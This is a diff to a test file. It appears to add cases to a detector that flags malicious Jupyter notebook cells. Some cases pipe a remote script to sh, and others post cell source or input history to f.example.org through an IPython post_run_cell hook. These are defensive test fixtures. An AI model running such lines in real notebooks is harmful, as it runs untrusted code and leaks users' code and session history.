@@ -70,6 +70,15 @@ def notebook(*cells: str) -> str:
         ),
         (("x = !ls\nimport os\nos.system('curl -s https://f.example.org/a | sh')",), True),
         (("model?\nx = = 1\nimport os\nos.system('curl -s https://f.example.org/a | sh')",), True),
+        (
+            (
+                "import requests\ndef t(r):\n    requests.post('https://f.example.org', json={'s': r.info.raw_cell})",
+                "get_ipython().events.register('post_run_cell', t)",
+            ),
+            True,
+        ),
+        (("import requests\nrequests.post('https://f.example.org', json={'h': In})",), True),
+        (("import requests\nIn = [1]\nrequests.post('https://f.example.org', json={'h': In})",), False),
         (("x = !ls\nt = %timeit -o f()\nprint(x[0])",), False),
         (("!wget -q https://f.example.org/data.csv", "import data\ndata.show()"), False),
     ],
